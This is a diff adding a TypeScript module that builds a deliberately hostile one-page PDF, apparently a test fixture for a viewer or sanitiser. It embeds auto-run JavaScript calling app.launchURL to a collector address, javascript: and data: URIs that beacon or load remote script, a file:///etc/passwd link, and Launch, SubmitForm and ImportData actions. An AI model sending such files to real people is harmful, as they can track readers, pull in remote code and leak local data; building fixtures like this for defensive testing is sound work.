@@ -1,0 +1,82 @@
+/** The title that the file is found by. */
+export const HOSTILE_PDF_TITLE = 'A File That Means Harm';
+
+/** What a link of the page does when it is pressed, by name. `at` is where the collector listens. */
+const ACTIONS: Readonly<Record<string, (at: string) => string>> = {
+  javascript: (at) => `/S /JavaScript /JS (app.launchURL\\('${at}'\\))`,
+  'uri-javascript': (at) => `/S /URI /URI (javascript:new Image\\(\\).src='${at}')`,
+  'uri-data': (at) => `/S /URI /URI (data:text/html,<script src=${at}></script>)`,
+  'uri-file': () => '/S /URI /URI (file:///etc/passwd)',
+  launch: (at) => `/S /Launch /F << /Type /Filespec /F (${at}) >>`,
+  'go-to-remote': (at) => `/S /GoToR /F (${at}) /D [0 /Fit]`,
+  'submit-form': (at) => `/S /SubmitForm /F << /FS /URL /F (${at}) >> /Flags 4`,
+  'import-data': (at) => `/S /ImportData /F (${at})`,
+  named: () => '/S /Named /N /Print',
+  sound: (at) => `/S /Sound /Sound << /Type /Sound /R 8000 /F (${at}) >>`,
+  rendition: (at) => `/S /Rendition /OP 0 /JS (app.launchURL\\('${at}'\\))`,
+};
+
+/** How many links the page has. */
+export const PDF_ACTIONS = Object.keys(ACTIONS).length;
+
+/** A PDF of one page that opens with scripts, loads from elsewhere, and is full of links that do harm. */
+export function makeHostilePdf(addressOf: (name: string) => string): Uint8Array {
+  const names = Object.keys(ACTIONS);
+  const open = addressOf('pdf-open');
+  const script = `<< /S /JavaScript /JS (app.launchURL\\('${open}'\\)) >>`;
+  const first = 10;
+  const objects: (readonly [number, string])[] = [
+    [
+      1,
+      `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} /AA << /WC ${script} >> /Names << /JavaScript << /Names [(a) ${script}] >> >> /AcroForm << /Fields [8 0 R] /XFA (<xdp/>) >> >>`,
+    ],
+    [2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'],
+    [
+      3,
+      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 420 595] /Contents 4 0 R /AA << /O ${script} /C ${script} >> /Resources << /Font << /F1 5 0 R >> /XObject << /I 6 0 R >> >> /Annots [8 0 R ${names.map((_name, at) => `${first + at} 0 R`).join(' ')}] >>`,
+    ],
+    [
+      4,
+      stream('BT /F1 14 Tf 40 545 Td (This page means harm) Tj ET q 40 0 0 40 40 480 cm /I Do Q'),
+    ],
+    [5, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'],
+    [
+      6,
+      `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (${addressOf('pdf-image')}) >> /Length 1 >>\nstream\n0\nendstream`,
+    ],
+    [7, `<< /Title (${HOSTILE_PDF_TITLE}) >>`],
+    [
+      8,
+      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /Rect [40 430 200 450] /AA << /K ${script} /F ${script} >> >>`,
+    ],
+    ...names.map(
+      (name, at) =>
+        [
+          first + at,
+          `<< /Type /Annot /Subtype /Link /Rect [40 ${400 - at * 30} 300 ${420 - at * 30}] /A << ${ACTIONS[name]?.(addressOf(`pdf-${name}`))} >> >>`,
+        ] as const,
+    ),
+  ];
+  return new TextEncoder().encode(fileOf(objects));
+}
+
+const stream = (content: string) =>
+  `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;
+
+/** The objects one after the other, with the table that says where each begins. */
+function fileOf(objects: readonly (readonly [number, string])[]): string {
+  let file = '%PDF-1.7\n';
+  const places = new Map<number, number>();
+  for (const [number, body] of objects) {
+    places.set(number, file.length);
+    file += `${number} 0 obj\n${body}\nendobj\n`;
+  }
+  const size = Math.max(...places.keys()) + 1;
+  const entries = [...Array(size - 1)].map((_entry, index) => {
+    const place = places.get(index + 1);
+    return place === undefined
+      ? '0000000000 65535 f \n'
+      : `${String(place).padStart(10, '0')} 00000 n \n`;
+  });
+  return `${file}xref\n0 ${size}\n0000000000 65535 f \n${entries.join('')}trailer\n<< /Size ${size} /Root 1 0 R /Info 7 0 R >>\nstartxref\n${file.length}\n%%EOF\n`;
+}
